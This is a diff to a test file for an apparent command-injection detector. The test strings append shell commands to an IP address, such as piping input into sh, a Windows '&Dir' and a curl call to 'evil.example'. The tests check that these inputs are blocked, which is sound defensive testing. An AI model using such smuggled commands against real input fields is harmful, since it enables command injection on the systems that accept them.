@@ -47,6 +47,12 @@ test.each([
   '8.8.8.8; bash < x',
   '8.8.8.8; more < x | sh',
   '8.8.8.8; Curl Foo http://evil.example/x',
+  '8.8.8.8; time < x | sh',
 ])('what looks like prose before a command line goes on is a pretext: %j', (text) => {
   expect(isBlocked(commandInjection, text)).toBe(true)
+})
+
+test('Windows asks for no small letters where nothing follows', () => {
+  expect(isBlocked(commandInjection, '8.8.8.8&Dir')).toBe(true)
+  expect(isBlocked(commandInjection, '8.8.8.8&Di')).toBe(false)
 })
